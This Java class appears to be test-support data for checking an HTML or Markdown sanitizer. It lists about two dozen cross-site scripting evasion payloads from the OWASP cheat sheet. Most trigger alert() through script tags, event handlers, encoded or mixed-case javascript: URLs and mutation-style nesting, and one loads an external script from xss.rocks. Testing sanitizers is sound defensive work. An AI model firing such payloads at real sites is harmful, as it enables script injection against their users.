package org.haven.support;

import java.util.List;

/**
 * Vectors from the OWASP XSS Filter Evasion Cheat Sheet, as someone would paste them into
 * a comment, a front-matter field or a search box: each calls {@code alert}, loads a
 * foreign script or leaves a handler or {@code javascript:} URL behind if it gets
 * through.
 */
public final class XssVectors {

	public static final List<String> ALL = List.of("<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
			"<IMG SRC=\"javascript:alert('XSS');\">", "<IMG SRC=JaVaScRiPt:alert('XSS')>",
			"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
			"<IMG SRC=# onmouseover=\"alert('xxs')\">",
			"<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
			"<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
			"<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">", "<SVG ONLOAD=alert(1)>", "<BODY ONLOAD=alert('XSS')>",
			"<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>", "<a href=\"javascript:alert(1)\">click</a>",
			"[click](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
			"<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">", "<svg><script>alert(1)</script></svg>",
			"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>",
			"' onmouseover='alert(1)' x='", "</script><script>alert(1)</script>", "javascript:alert(1)",
			"<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
			"<a href=\"&#106;avascript:alert(1)\">x</a>");

	private XssVectors() {
	}

}
